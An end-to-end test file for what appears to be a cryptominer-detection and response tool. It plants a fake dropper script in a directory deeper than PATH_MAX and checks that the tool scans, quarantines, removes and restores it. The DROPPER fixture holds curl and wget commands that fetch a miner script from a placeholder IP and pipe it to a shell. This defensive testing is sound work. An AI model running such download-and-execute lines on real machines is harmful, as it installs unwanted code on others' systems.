// End-to-end: a dropper 30 directories of 200 letters down (~6,100 bytes, past the 4,096 the kernel
// opens by name). `scan --path` finds it by its full path; `respond --apply` with that finding's
// steps selected archives it (the archive's manifest holds its full path and sha256, 7z lists it)
// and removes it; `undo` puts it back byte-identical. Everything happens in a temporary directory.
import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readQuarantine, type Manifest } from '../../src/respond/quarantine.js';
import { ensureBuilt, runCli, runCliJson } from '../helpers/cli.js';
import { inDeep, makeDeep, removeDeep } from '../helpers/deep-tree.js';

const execFileP = promisify(execFile);
const DROPPER =
  '#!/bin/sh\ncurl -fsSL http://203.0.113.7/xmrig.sh | sh\nwget -q -O- http://203.0.113.7/x | bash\n';
let dir: string;
let tree: string;
let full: string;

/** Runs `command` in the tree's deepest directory; its stdout. */
const inDeepest = (command: string): string => inDeep(tree, 30, command);

beforeAll(async () => {
  await ensureBuilt();
  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-respond-deep-'));
  tree = path.join(dir, 'tree');
  full = makeDeep(tree, 30, 'drop.sh', DROPPER);
}, 120_000);
afterAll(() => removeDeep(dir));

describe('respond on a file past PATH_MAX', () => {
  it('archives and removes the file the scan found, and undo puts it back', async () => {
    expect(Buffer.byteLength(full)).toBeGreaterThan(4096);
    const sha = inDeepest('sha256sum drop.sh').split(' ')[0];
    const report = path.join(dir, 'report.json');
    const scan = await runCliJson(['scan', '--path', tree, '--no-cache', '--format', 'json', '--lang', 'en']);
    const found = scan.json.findings.filter((f) => f.evidence.some((e) => 'path' in e && e.path === full));
    expect(
      found.map((f) => f.ruleId),
      scan.stderr,
    ).toEqual(['content-match']);
    writeFileSync(report, scan.stdout);

    const out = path.join(dir, 'respond');
    const fingerprint = found[0]!.fingerprint as string;
    const run = await runCli(
      [
        'respond',
        '--report',
        report,
        '--select',
        fingerprint,
        '--apply',
        '--yes',
        '--out',
        out,
        '--lang',
        'en',
      ],
      { timeoutMs: 120_000 },
    );
    expect(run.code, run.stderr + run.stdout).toBe(0);
    expect(run.stdout).toMatch(/\[done\] archive: 1 file\(s\) archived and verified/);
    expect(run.stdout).toMatch(/\[done\] quarantine:/);
    expect(inDeepest('ls -A')).toBe('');

    const entries = await readQuarantine(path.join(out, 'quarantine.zip'), 'infected');
    const manifest = JSON.parse(Buffer.from(entries.get('manifest.json')!).toString()) as Manifest;
    expect(manifest.files.map((f) => [f.path, f.sha256])).toEqual([[full, sha]]);
    expect(manifest.unreadable).toEqual([]);
    expect(Buffer.from(entries.get(`files${full}`)!).toString()).toBe(DROPPER);
    const listed = await execFileP('7z', ['l', '-pinfected', path.join(out, 'quarantine.zip')]);
    expect(listed.stdout).toContain(`${full.slice(1)}`);

    const undo = await runCli(['undo', path.join(out, 'journal.jsonl'), '--lang', 'en']);
    expect(undo.code, undo.stderr + undo.stdout).toBe(0);
    expect(undo.stdout).toContain('[restored]');
    expect(inDeepest('cat drop.sh')).toBe(DROPPER);
  }, 180_000);
});
